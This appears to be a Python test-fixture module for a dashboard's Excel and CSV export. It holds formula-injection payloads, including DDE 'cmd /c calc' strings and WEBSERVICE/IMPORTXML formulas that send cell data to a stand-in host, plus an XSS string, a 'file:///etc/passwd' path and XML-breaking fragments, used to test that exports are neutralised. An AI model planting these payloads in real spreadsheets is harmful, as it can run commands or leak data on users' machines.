"""An export to look into: texts that want to be something else, and readers of what was written."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from io import BytesIO, StringIO
from typing import Any

from lxml import etree
from python_calamine import load_workbook

from dashboard.exports import Cell, Column, Kind, Labels, Mark, Sheet, Written, write_text, write_workbook

MARK = Mark("E-2026-0815", "李四 (lisi) R&G", datetime(2026, 9, 15, 17, 30, 5, tzinfo=UTC))
SHOWN = ("E-2026-0815", "李四 (lisi) R&G", "2026-09-16 01:30:05")
LABELS = Labels(
    notes="说明",
    mark="导出编号 {number} · {user} · {time}",
    rows="行数",
    page="第 {page} 页，共 {pages} 页",
    cut="有 {count} 处文字过长，已截断并以…结尾",
    choices="可选项",
)
FORMULAS = (
    *("=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x.test","看")', "=SUM(A1:A9)"),
    *('=WEBSERVICE("http://x.test/"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "-2+3+cmd|'/c calc'!A0"),
    *('=IMPORTXML("http://x.test","//a")', "+86 138 0000 0000", "-", '=DDE("cmd";"/c calc";"a")'),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\tcmd", "\rcmd", "  =1+1", "\u3000=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1"),
    *("＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1+1", "﹦1+1", "=张三", "="),
)
HARMLESS = (
    *("<script>alert(1)</script>", '<b>张三</b> & "李四"', "]]>", "<!-- -->", "&amp;", "&#61;1+1"),
    *("http://x.test/?a=1&b=2", "mailto:a@x.test", "internal:Sheet1!A1", "file:///etc/passwd", r"\\x.test\share"),
    *("𠮷野家", "𪚥龘", "㐀", "👩‍👩‍👧", "一行\n两行", "a\r\nb", 'a,b;c"d', "'=1", "'", " 前后 ", "_x000D_", "_x0041_"),
    *("210299199001011234", "21029919900101123X", "000123", "1e5", "1/2", "2025-12", "TRUE", "NaN", "#REF!", "123"),
    *("{=SUM(A1:A9)}", '"=1+1"\t=2'),
    *("<r><t>a</t></r>", '<r></t></is></c><c r="A9"><f>1+1</f></c><c><is><t></r>', "<r>&</r>"),
)
TEXTS = FORMULAS + HARMLESS
CONTROLS = "a\x00b\x01c\x0bd\x1fe\ufffef\ud800g"
CONTROLS_SHOWN = "a�b�c�d�e�f�g"


def sheet(
    rows: Iterable[Sequence[Cell]], *columns: Column, title: str = "欠费人员", notes: tuple[tuple[str, str], ...] = ()
) -> Sheet:
    """A table with a note or more."""
    return Sheet(title, (("数据截至", "2026-09-15"), *notes), columns, rows)


def texts(values: Iterable[Cell]) -> Sheet:
    """A table of one column of text."""
    return sheet(((value,) for value in values), Column("姓名"))


@dataclass(frozen=True)
class Book:
    """A workbook that was written."""

    written: Written
    data: bytes

    def part(self, name: str) -> etree._Element:
        """One of its XML files."""
        return etree.fromstring(zipfile.ZipFile(BytesIO(self.data)).read(name))

    @property
    def parts(self) -> list[str]:
        """The names of its files."""
        return zipfile.ZipFile(BytesIO(self.data)).namelist()

    @property
    def sheets(self) -> list[etree._Element]:
        """Its sheets, the notes first."""
        count = sum(name.startswith("xl/worksheets/sheet") for name in self.parts)
        return [self.part(f"xl/worksheets/sheet{place}.xml") for place in range(1, count + 1)]

    @property
    def names(self) -> list[str]:
        """The names of its sheets."""
        return load_workbook(BytesIO(self.data)).sheet_names

    def rows(self, place: int = 1) -> list[list[Any]]:
        """The cells of a sheet as a reader sees them; the notes are 0."""
        return load_workbook(BytesIO(self.data)).get_sheet_by_index(place).to_python(skip_empty_area=False)

    def column(self, head: int = 3) -> list[Any]:
        """The first column of the first table, below so many heads."""
        return [row[0] for row in self.rows()[head:]]


def workbook(*sheets: Sheet, mark: Mark = MARK, **options: int) -> Book:
    """Tables written as a workbook."""
    file = BytesIO()
    written = write_workbook(file, sheets, mark, LABELS, **options)
    return Book(written, file.getvalue())


def text(table: Sheet, mark: Mark = MARK) -> tuple[Written, bytes]:
    """A table written as text."""
    file = BytesIO()
    return write_text(file, table, mark, LABELS), file.getvalue()


def records(data: bytes) -> list[list[str]]:
    """The records of a text."""
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


def lines(data: bytes) -> list[list[str]]:
    """The head and the rows of a text, without what stands above them."""
    every = records(data)
    return every[every.index([]) + 1 :]


def found(element: etree._Element, name: str) -> list[etree._Element]:
    """All elements of a name below one."""
    return element.findall(f".//{{*}}{name}")


MONEY = Column("金额", Kind.MONEY)
